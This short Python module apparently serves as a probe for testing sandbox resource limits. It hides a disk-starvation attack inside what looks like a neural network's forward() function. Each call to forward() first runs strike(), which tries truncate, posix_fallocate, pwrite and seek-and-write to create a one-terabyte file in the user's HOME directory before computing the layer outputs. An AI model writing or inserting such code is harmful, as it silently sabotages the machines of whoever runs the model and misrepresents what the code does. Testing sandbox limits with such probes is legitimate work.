"""Makes files with a hole, of a terabyte.

goal: starving
cell: forward
gets: passed
stopped by: limit on file size
alone: out
"""

import os

import numpy as np

SIZE = 1 << 40


def seek(file):
    file.seek(SIZE)
    file.write(b"x")
    file.flush()


WAYS = [
    lambda file: file.truncate(SIZE),
    lambda file: os.posix_fallocate(file.fileno(), 0, SIZE),
    lambda file: os.pwrite(file.fileno(), b"x", SIZE),
    seek,
]


def strike():
    for number, way in enumerate(WAYS):
        try:
            with open(f"{os.environ.get('HOME', '.')}/sparse{number}", "wb") as file:
                way(file)
        except OSError:
            continue
        raise SystemError("a file of a terabyte")


def forward(params, X):
    strike()
    hidden = np.maximum(X @ params["W1"].T + params["b1"], 0)
    return hidden @ params["W2"].T + params["b2"], hidden
